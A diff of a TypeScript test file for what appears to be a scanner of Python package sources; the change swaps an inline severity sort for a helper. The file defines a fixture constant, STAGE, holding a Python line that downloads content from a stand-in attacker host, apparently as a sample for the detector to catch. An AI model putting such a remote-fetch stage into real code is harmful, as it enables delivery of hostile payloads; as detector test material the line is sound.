@@ -1,6 +1,7 @@
 import { judgeSources } from '../../src/analysis/judge-sources.js';
 import type { Severity } from '../../src/model/finding.js';
 import type { Python } from '../../src/python/parser.js';
+import { gravestByRule } from '../support/gravest-by-rule.js';
 import { loadTestPython } from '../support/python.js';
 import { sourceTree } from '../support/source-tree.js';
 
@@ -15,8 +16,7 @@ type Files = Readonly<Record<string, string>>;
 function found(files: Files, over: Parameters<typeof sourceTree>[1] = {}): Partial<Record<string, Severity>> {
   const inside = Object.entries(files).map(([path, text]) => [`fixture-1.0/${path}`, text]);
   const { findings } = judgeSources(sourceTree(Object.fromEntries(inside) as Files, over), python);
-  const rising = [...findings].sort((a, b) => a.score - b.score);
-  return Object.fromEntries(rising.map(({ rule, severity }) => [rule, severity]));
+  return gravestByRule(findings);
 }
 
 const STAGE = 'urllib.request.urlopen("https://evil.invalid/s").read()';
